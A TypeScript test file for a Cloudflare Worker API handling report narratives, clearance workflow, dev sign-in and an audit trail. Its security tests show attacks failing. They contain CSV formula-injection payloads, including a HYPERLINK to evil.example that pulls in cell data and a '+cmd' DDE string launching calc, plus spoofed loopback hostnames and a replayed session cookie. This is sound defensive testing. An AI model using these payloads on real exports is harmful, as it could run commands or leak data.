/**
 * Issue 13, the API's part: one test per point, each showing the attack failing and nothing changed.
 * (Points 1-6 and 13 are the room's, tested with the room.)
 */
import { SELF } from "cloudflare:test";
import { env } from "cloudflare:workers";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import wranglerToml from "../../wrangler.toml?raw";
import { commitWithAudit } from "../../worker/audit/audit-log.ts";
import {
  CHECKPOINT_PREFIX,
  checkpointKey,
  listCheckpoints,
  signedText,
  writeAuditCheckpoint,
  type CheckpointClaim,
} from "../../worker/audit/audit-checkpoints.ts";
import { loadSigner } from "../../worker/audit/audit-signing.ts";
import { isLoopbackHost } from "../../worker/auth/dev-session.ts";
import { database } from "../../worker/db/client.ts";
import type { Env } from "../../worker/env.ts";
import { csvCell } from "../../worker/http/csv.ts";
import { accessEnv, fetchWith } from "../helpers/access.ts";
import { AS, call, json, ORIGIN, sessionCookie } from "../helpers/api.ts";
import { eventCount } from "../helpers/audit.ts";
import { openRoomResponse } from "../helpers/room-client.ts";
import { TEST_CYCLE_YEAR } from "../helpers/seed.ts";
import { act, actOk, approveTier, auditEventsOf, currentVersion, detail } from "../helpers/workflow.ts";

const ESWATINI = `${TEST_CYCLE_YEAR}-eswatini`;
const MALAWI = `${TEST_CYCLE_YEAR}-malawi`;
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;

const lawEnforcement = async (userId: string) => {
  const res = await call(userId, `/api/cycles/${TEST_CYCLE_YEAR}/law-enforcement`);
  expect(res.status).toBe(200);
  return json(res);
};

const narrativeCount = async () =>
  (await env.DB.prepare("SELECT COUNT(*) AS n FROM documents WHERE cycle_year = ? AND kind = 'country_narrative'")
    .bind(TEST_CYCLE_YEAR)
    .first<{ n: number }>())!.n;

describe("7. GET /api/cycles/:year/law-enforcement sums only the narratives the caller may read, and says when its sums are partial", () => {
  it("a country-scoped drafter reads neither other regions' totals nor another country's figures; leadership reads them all", async () => {
    // Eswatini is the only Africa narrative this file gives figures: its region's sum would be Eswatini's own figures.
    const version = await currentVersion(ESWATINI);
    const put = await call(AS.drafterAF, `/api/documents/${ESWATINI}/figures`, {
      method: "PUT",
      body: { version, figures: { prosecutions: 913, convictions: 17, victimsIdentified: 4321 } },
    });
    expect(put.status).toBe(200);
    const stored = await env.DB.prepare("SELECT * FROM law_enforcement_figures WHERE document_id = ?").bind(ESWATINI).first();
    const events = await eventCount();
    const total = await narrativeCount();

    // The Manama officer (drafter for Bahrain only) sees Bahrain and nothing else.
    const manama = await lawEnforcement(AS.embassyManama);
    expect(manama).toMatchObject({ partial: true, hiddenCountries: total - 1 });
    const region = (d: any, code: string) => d.current.regions.find((r: any) => r.regionCode === code);
    expect(region(manama, "AF")).toMatchObject({
      countries: 0,
      totals: { prosecutions: 0, convictions: 0, victimsIdentified: 0 },
      reporting: { prosecutions: 0 },
    });
    for (const code of ["AF", "EAP", "EUR", "SCA", "WHA"]) expect(region(manama, code).countries, code).toBe(0);
    expect(region(manama, "NEA").countries).toBe(1);
    expect(manama.current.global.countries).toBe(1);
    const bahrain = await env.DB.prepare("SELECT prosecutions FROM law_enforcement_figures WHERE document_id = ?")
      .bind(`${TEST_CYCLE_YEAR}-bahrain`)
      .first<{ prosecutions: number | null }>();
    expect(manama.current.global.totals.prosecutions).toBe(bahrain?.prosecutions ?? 0);

    // A regional drafter sees their region's sum, not the others'.
    const africa = await lawEnforcement(AS.drafterAF);
    const afCountries = (await env.DB.prepare("SELECT COUNT(*) AS n FROM countries WHERE region_code = 'AF'").first<{ n: number }>())!.n;
    expect(africa).toMatchObject({ partial: true, hiddenCountries: total - afCountries });
    expect(region(africa, "AF").countries).toBe(afCountries);
    expect(region(africa, "AF").totals.prosecutions).toBeGreaterThanOrEqual(913);
    expect(region(africa, "EUR")).toMatchObject({ countries: 0, totals: { prosecutions: 0 } });
    expect(africa.current.global.totals.prosecutions).toBe(region(africa, "AF").totals.prosecutions);

    // Leadership (global) reads every narrative: not partial.
    const all = await lawEnforcement(AS.leadership);
    expect(all).toMatchObject({ partial: false, hiddenCountries: 0 });
    expect(all.current.global.countries).toBe(total);
    expect(region(all, "AF").totals.prosecutions).toBe(region(africa, "AF").totals.prosecutions);
    // The published tables are public record: the same for everyone.
    expect(manama.published).toEqual(all.published);

    // Nothing changed by reading.
    expect(await env.DB.prepare("SELECT * FROM law_enforcement_figures WHERE document_id = ?").bind(ESWATINI).first()).toEqual(stored);
    expect(await eventCount()).toBe(events);
  });
});

describe("8. CSV exports escape formulas in every cell, including after a line break", () => {
  it("csvCell: = + - @ tab CR at the start or after a line break get a leading '; nothing else changes", () => {
    const escaped: [unknown, string][] = [
      ["=SUM(A1)", "'=SUM(A1)"],
      ["+1", "'+1"],
      ["-2", "'-2"],
      ["@cmd", "'@cmd"],
      ["\tx", "'\tx"],
      ["\rx", "'\rx"],
      ['fine\n=HYPERLINK("http://evil.example")', '\'fine\n=HYPERLINK("http://evil.example")'],
      ["a\r\n+1", "'a\r\n+1"],
      ["a\r-1", "'a\r-1"],
      ["a\n\tb", "'a\n\tb"],
      ["a\n@b", "'a\n@b"],
      [-5, "'-5"],
    ];
    for (const [value, cell] of escaped) expect(csvCell(value), JSON.stringify(value)).toBe(cell);
    const kept: [unknown, string][] = [
      ["plain", "plain"],
      ["a=b", "a=b"],
      ["line\nnext", "line\nnext"],
      ["x - y", "x - y"],
      [42, "42"],
      [null, ""],
      [undefined, ""],
    ];
    for (const [value, cell] of kept) expect(csvCell(value), JSON.stringify(value)).toBe(cell);
  });

  it("GET /api/audit/export?format=csv: a comment with a formula on its second line is defused; JSON lines and the trail keep exact values", async () => {
    const payloads = [
      'Looks fine\n=HYPERLINK("http://evil.example/?"&A1,"click")',
      "ok\r\n+cmd|' /C calc'!A0",
      "ok\r-1+1",
      "ok\n@SUM(1)",
      "ok\n\tindent",
      "=1+1",
    ];
    for (const [i, comment] of payloads.entries()) {
      await commitWithAudit(
        database(env),
        { actor: { id: "csv-attacker", email: "csv.attacker@tip.example.gov" }, requestId: null },
        { action: "test.csv_injection", subjectType: "test", subjectId: `inj-${i}`, comment },
      );
    }
    const events = await eventCount();
    const res = await call(AS.admin, "/api/audit/export?format=csv&action=test.csv_injection");
    expect(res.status).toBe(200);
    const text = await res.text();
    const parsed = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data.map((r) => r.comment)).toEqual(payloads.map((p) => `'${p}`));
    // No cell of the file has a line that a spreadsheet would start as a formula.
    for (const row of parsed.data)
      for (const cell of Object.values(row)) expect(/(^|[\r\n])[=+\-@\t\r]/.test(cell!) && !cell!.startsWith("'"), cell).toBe(false);

    const jsonl = new TextDecoder()
      .decode(await (await call(AS.admin, "/api/audit/export?format=jsonl&action=test.csv_injection")).arrayBuffer())
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l));
    expect(jsonl.map((e) => e.comment)).toEqual(payloads);
    const { results } = await env.DB.prepare("SELECT comment FROM audit_events WHERE action = 'test.csv_injection' ORDER BY seq").all<{ comment: string }>();
    expect(results.map((r) => r.comment)).toEqual(payloads);
    expect(await eventCount()).toBe(events);
  });
});

describe("9. Request ids are made by the Worker, never taken from the client's X-Request-Id", () => {
  it("a forged X-Request-Id is ignored: the response, the error body and the audit trail carry the Worker's own id", async () => {
    const forged = "forged-request-id-0001";
    const res = await call(AS.admin, "/api/admin/users", {
      body: { email: "request.id@tip.example.gov", name: "Request Id" },
      headers: { "X-Request-Id": forged },
    });
    expect(res.status).toBe(201);
    const id = res.headers.get("X-Request-Id")!;
    expect(id).toMatch(UUID);
    expect(id).not.toBe(forged);
    const { results } = await env.DB.prepare(
      "SELECT request_id FROM audit_events WHERE action = 'user.create' AND details LIKE '%request.id@tip.example.gov%'",
    ).all<{ request_id: string }>();
    expect(results.map((r) => r.request_id)).toEqual([id]);

    const error = await call(AS.admin, "/api/no-such-route", { headers: { "X-Request-Id": forged } });
    expect(error.status).toBe(404);
    const body = await json(error);
    expect(body.error.requestId).toMatch(UUID);
    expect(body.error.requestId).toBe(error.headers.get("X-Request-Id"));
    expect(body.error.requestId).not.toBe(forged);

    // Two requests sending the same id still get two different ids; no event carries the forged one.
    const again = await call(AS.admin, "/api/me", { headers: { "X-Request-Id": id } });
    expect(again.headers.get("X-Request-Id")).not.toBe(id);
    expect((await env.DB.prepare("SELECT COUNT(*) AS n FROM audit_events WHERE request_id = ?").bind(forged).first<{ n: number }>())!.n).toBe(0);
  });
});

describe("10. Once clearance has started, a pending clearing office cannot be dropped or made an information office", () => {
  it("the reviewer's list change that would bypass a pending office is 409 office_pending and changes nothing; leadership's proceed_without records the non-concurrence", async () => {
    await approveTier(MALAWI, AS.drafterAF, AS.reviewerAF);
    await actOk(AS.drafterAF, MALAWI, "submit");
    await actOk(AS.reviewerAF, MALAWI, "approve");
    await actOk(AS.clearerBureauAF, MALAWI, "clear");
    const before = await detail(AS.reviewerAF, MALAWI);
    expect(before.state).toBe("in_clearance");
    const clearances = async () => json(await call(AS.reviewerAF, `/api/documents/${MALAWI}/clearances`));
    const listBefore = await clearances();
    expect(listBefore.pending.sort()).toEqual(["DRL", "L"]);
    const listEvents = (await auditEventsOf(MALAWI, "clearance.")).length;

    const attempts = [
      // L dropped
      [
        { officeCode: "AF", mode: "clear" },
        { officeCode: "DRL", mode: "clear" },
        { officeCode: "J", mode: "info" },
      ],
      // L made an information office
      [
        { officeCode: "AF", mode: "clear" },
        { officeCode: "DRL", mode: "clear" },
        { officeCode: "L", mode: "info" },
        { officeCode: "J", mode: "info" },
      ],
      // both pending offices gone, another added in their place
      [
        { officeCode: "AF", mode: "clear" },
        { officeCode: "EUR", mode: "clear" },
      ],
    ];
    for (const offices of attempts) {
      const res = await call(AS.reviewerAF, `/api/documents/${MALAWI}/clearances/list`, {
        method: "PUT",
        body: { version: await currentVersion(MALAWI), offices, comment: "Legal is slow; we move on." },
      });
      expect(res.status, JSON.stringify(offices)).toBe(409);
      const { error } = await json(res);
      expect(error.code).toBe("office_pending");
      expect(error.details.rule).toMatch(/pending clearing office stays on the list.*proceed_without/);
      expect(error.details.offices).toContain("L");
    }
    // Nothing changed: state, version, list, clearances, audit.
    const after = await detail(AS.reviewerAF, MALAWI);
    expect({ state: after.state, version: after.version }).toEqual({ state: "in_clearance", version: before.version });
    expect(await clearances()).toEqual(listBefore);
    expect(await auditEventsOf(MALAWI, "clearance.")).toHaveLength(listEvents);

    // What stays allowed: changing an office that is not pending (J, informed) with a reason.
    const allowed = await call(AS.reviewerAF, `/api/documents/${MALAWI}/clearances/list`, {
      method: "PUT",
      body: {
        version: await currentVersion(MALAWI),
        offices: [
          { officeCode: "AF", mode: "clear" },
          { officeCode: "DRL", mode: "clear" },
          { officeCode: "L", mode: "clear" },
        ],
        comment: "J needs no copy.",
      },
    });
    expect(allowed.status).toBe(200);
    expect((await json(allowed)).pending.sort()).toEqual(["DRL", "L"]);

    // The only way past L: leadership proceeds without it, on the record as not concurred.
    expect((await act(AS.leadership, MALAWI, "proceed_without", { office: "L", comment: "Legal review overdue; release deadline." })).status).toBe(200);
    const done = await clearances();
    expect(done.offices.find((o: any) => o.officeCode === "L")).toMatchObject({
      status: "not_concurred",
      clearance: { outcome: "not_concurred", userId: AS.leadership },
    });
  });
});

describe("11. Development sign-in only where it is safe; sign-out ends the session on the server", () => {
  const login = (url: string, bindings?: Env) => {
    const init = {
      method: "POST",
      headers: { Origin: new URL(url).origin, "Content-Type": "application/json" },
      body: JSON.stringify({ email: "admin@tip.example.gov" }),
    };
    return bindings ? fetchWith(bindings, url, init) : SELF.fetch(url, init);
  };
  const sessions = async () => (await env.DB.prepare("SELECT COUNT(*) AS n FROM dev_sessions").first<{ n: number }>())!.n;
  const logins = async () => (await env.DB.prepare("SELECT COUNT(*) AS n FROM audit_events WHERE action = 'auth.login'").first<{ n: number }>())!.n;

  it("loopback hosts only: 127.0.0.0/8, localhost, [::1]", () => {
    for (const host of ["127.0.0.1", "127.1.2.3", "localhost", "LOCALHOST", "[::1]"]) expect(isLoopbackHost(host), host).toBe(true);
    for (const host of ["tip.example.gov", "127.0.0.1.nip.io", "localhost.evil.example", "128.0.0.1", "10.0.0.1", "[::2]", "0.0.0.0", "127.0.0.256"])
      expect(isLoopbackHost(host), host).toBe(false);
  });

  it("AUTH_MODE=dev on a public host, with Access configured, or with a short SESSION_SECRET: sign-in refused with 503 dev_auth_refused, cookies ignored, nothing written", async () => {
    const before = { sessions: await sessions(), logins: await logins() };
    const cookie = await sessionCookie(AS.admin);
    const refusals: [string, Env | undefined, RegExp][] = [
      ["https://tip.example.gov/auth/dev/login", undefined, /host tip\.example\.gov is not a loopback address/],
      ["http://127.0.0.1.nip.io/auth/dev/login", undefined, /not a loopback address/],
      ["http://localhost/auth/dev/login", accessEnv({ AUTH_MODE: "dev" }), /Cloudflare Access is configured/],
      ["http://localhost/auth/dev/login", { ...env, ACCESS_AUD: "some-aud" }, /Cloudflare Access is configured/],
      ["http://localhost/auth/dev/login", { ...env, SESSION_SECRET: "e2e-session-secret" }, /SESSION_SECRET is 18 bytes; it must be at least 32/],
      ["http://localhost/auth/dev/login", { ...env, SESSION_SECRET: undefined }, /SESSION_SECRET is not set/],
    ];
    for (const [url, bindings, problem] of refusals) {
      const res = await login(url, bindings);
      expect(res.status, url).toBe(503);
      const { error } = await json(res);
      expect(error).toMatchObject({ code: "dev_auth_refused", requestId: expect.any(String) });
      expect(error.message, url).toMatch(problem);
      expect(res.headers.get("Set-Cookie")).toBeNull();
      // The user list is refused too, and a dev cookie is no identity there.
      const users = bindings ? await fetchWith(bindings, new URL("/auth/dev/users", url).href) : await SELF.fetch(new URL("/auth/dev/users", url).href);
      expect(users.status).toBe(503);
      const me = bindings
        ? await fetchWith(bindings, new URL("/api/me", url).href, { headers: { Cookie: cookie } })
        : await SELF.fetch(new URL("/api/me", url).href, { headers: { Cookie: cookie } });
      expect(me.status, url).toBe(401);
    }
    expect({ sessions: await sessions(), logins: await logins() }).toEqual({ sessions: before.sessions + 1, logins: before.logins });
    // The same cookie works where dev sign-in is allowed.
    expect((await SELF.fetch(`${ORIGIN}/api/me`, { headers: { Cookie: cookie } })).status).toBe(200);
    for (const url of ["http://127.0.0.1:8787/auth/dev/login", "http://[::1]/auth/dev/login"]) expect((await login(url)).status, url).toBe(200);
  });

  it("a cookie captured before sign-out no longer works after it (API and room)", async () => {
    const res = await login(`${ORIGIN}/auth/dev/login`);
    expect(res.status).toBe(200);
    const captured = res.headers.get("Set-Cookie")!.split(";")[0]!;
    const sessionId = captured.split(".")[1]!;
    expect((await SELF.fetch(`${ORIGIN}/api/me`, { headers: { Cookie: captured } })).status).toBe(200);
    const other = await sessionCookie(AS.admin);

    const out = await SELF.fetch(`${ORIGIN}/auth/logout`, { method: "POST", headers: { Origin: ORIGIN, Cookie: captured } });
    expect(out.status).toBe(200);
    expect(out.headers.get("Set-Cookie")).toMatch(/tip_session=;.*Max-Age=0/i);
    expect(await env.DB.prepare("SELECT ended_at FROM dev_sessions WHERE id = ?").bind(sessionId).first<{ ended_at: string | null }>()).toMatchObject({
      ended_at: expect.any(String),
    });

    // Replaying the captured cookie: no identity anywhere, nothing done.
    const users = await eventCount();
    const me = await SELF.fetch(`${ORIGIN}/api/me`, { headers: { Cookie: captured } });
    expect(me.status).toBe(401);
    const create = await SELF.fetch(`${ORIGIN}/api/admin/users`, {
      method: "POST",
      headers: { Origin: ORIGIN, Cookie: captured, "Content-Type": "application/json" },
      body: JSON.stringify({ email: "replay@tip.example.gov", name: "Replay" }),
    });
    expect(create.status).toBe(401);
    const room = await openRoomResponse(null, `${TEST_CYCLE_YEAR}-afghanistan`, { Cookie: captured });
    expect(room.status).toBe(401);
    expect(await eventCount()).toBe(users);
    expect(await env.DB.prepare("SELECT id FROM users WHERE email = 'replay@tip.example.gov'").first()).toBeNull();
    // Another session of the same person is unaffected.
    expect((await SELF.fetch(`${ORIGIN}/api/me`, { headers: { Cookie: other } })).status).toBe(200);
  });
});

describe("12. GET /api/audit/verify answers ok: false with a reason when it cannot vouch for the chain", () => {
  const verify = async (bindings?: Env) => {
    const res = bindings
      ? await fetchWith(bindings, `${ORIGIN}/api/audit/verify`, { headers: { Cookie: await sessionCookie(AS.admin) } })
      : await call(AS.admin, "/api/audit/verify");
    expect(res.status).toBe(200);
    return json(res);
  };

  /** Takes every checkpoint out of the bucket, puts `replacement` in, runs `check`, then puts the bucket back as it was. */
  async function withCheckpoints(replacement: () => Promise<void>, check: () => Promise<void>) {
    const saved: { key: string; body: string; customMetadata: Record<string, string> }[] = [];
    let cursor: string | undefined;
    do {
      const page = await env.AUDIT_CHECKPOINTS.list({ prefix: CHECKPOINT_PREFIX, cursor, include: ["customMetadata"] });
      for (const o of page.objects)
        saved.push({ key: o.key, body: await (await env.AUDIT_CHECKPOINTS.get(o.key))!.text(), customMetadata: o.customMetadata ?? {} });
      cursor = page.truncated ? page.cursor : undefined;
    } while (cursor);
    await env.AUDIT_CHECKPOINTS.delete(saved.map((s) => s.key));
    try {
      await replacement();
      await check();
    } finally {
      const now = await env.AUDIT_CHECKPOINTS.list({ prefix: CHECKPOINT_PREFIX });
      if (now.objects.length) await env.AUDIT_CHECKPOINTS.delete(now.objects.map((o) => o.key));
      for (const s of saved) await env.AUDIT_CHECKPOINTS.put(s.key, s.body, { customMetadata: s.customMetadata });
    }
  }

  it("with a fresh checkpoint of the head it vouches (ok, no reasons)", async () => {
    await commitWithAudit(database(env), { actor: { id: null, email: null }, requestId: null }, { action: "test.vouch", subjectType: "test", subjectId: "v" });
    expect((await writeAuditCheckpoint(env, { reason: "manual" })).written).toBe(true);
    expect(await verify()).toMatchObject({ ok: true, reasons: [] });
  });

  it("no checkpoint at all: ok false, no_checkpoint", async () => {
    const events = await eventCount();
    await withCheckpoints(
      async () => {},
      async () => {
        const result = await verify();
        expect(result).toMatchObject({ ok: false, firstBrokenSeq: null, checkpoints: { checked: 0, latest: null } });
        expect(result.reasons).toEqual([{ code: "no_checkpoint", message: expect.stringMatching(/No trusted checkpoint/) }]);
      },
    );
    expect(await eventCount()).toBe(events);
  });

  it("no verification key (neither AUDIT_SIGNING_KEY nor AUDIT_VERIFY_KEYS): ok false, no_verification_key", async () => {
    const events = await eventCount();
    const result = await verify({ ...env, AUDIT_SIGNING_KEY: undefined, AUDIT_VERIFY_KEYS: undefined });
    expect(result.ok).toBe(false);
    expect(result.reasons.map((r: any) => r.code)).toContain("no_verification_key");
    expect(result.checkpoints.signingKeyConfigured).toBe(false);
    expect(await eventCount()).toBe(events);
  });

  it("the newest checkpoint older than two hours: ok false, checkpoint_stale", async () => {
    const events = await eventCount();
    const head = (await env.DB.prepare("SELECT seq, hash, (SELECT COUNT(*) FROM audit_events) AS events FROM audit_events ORDER BY seq DESC LIMIT 1").first<{
      seq: number;
      hash: string;
      events: number;
    }>())!;
    const signer = (await loadSigner(env.AUDIT_SIGNING_KEY))!;
    const putSigned = async (at: string) => {
      const claim: CheckpointClaim = { seq: head.seq, headHash: head.hash, events: head.events, at, reason: "schedule" };
      const checkpoint = { ...claim, keyId: signer.keyId, signature: await signer.sign(signedText(claim)) };
      await env.AUDIT_CHECKPOINTS.put(checkpointKey(claim.seq, at), JSON.stringify({ ...checkpoint, publicKey: signer.publicKey }), {
        customMetadata: Object.fromEntries(Object.entries(checkpoint).map(([k, v]) => [k, String(v)])),
      });
    };
    await withCheckpoints(
      () => putSigned(new Date(Date.now() - 2 * 60 * 60 * 1000 - 60_000).toISOString()),
      async () => {
        const result = await verify();
        expect(result).toMatchObject({ ok: false, firstBrokenSeq: null, checkpoints: { problems: [], latest: { seq: head.seq } } });
        expect(result.reasons).toEqual([{ code: "checkpoint_stale", message: expect.stringMatching(/more than two hours ago/) }]);
        // The hourly cron signs the unchanged head again, which makes the trail vouched for once more.
        expect((await writeAuditCheckpoint(env, { reason: "schedule" })).written).toBe(true);
        expect((await listCheckpoints(env.AUDIT_CHECKPOINTS)).length).toBe(2);
        expect(await verify()).toMatchObject({ ok: true, reasons: [] });
      },
    );
    expect(await eventCount()).toBe(events);
  });
});

describe("14. wrangler.toml: no workers.dev address and no preview URLs", () => {
  it("sets workers_dev = false and preview_urls = false at the top level", () => {
    const topLevel = wranglerToml.split(/^\[/m)[0]!;
    expect(topLevel).toMatch(/^workers_dev = false$/m);
    expect(topLevel).toMatch(/^preview_urls = false$/m);
  });
});
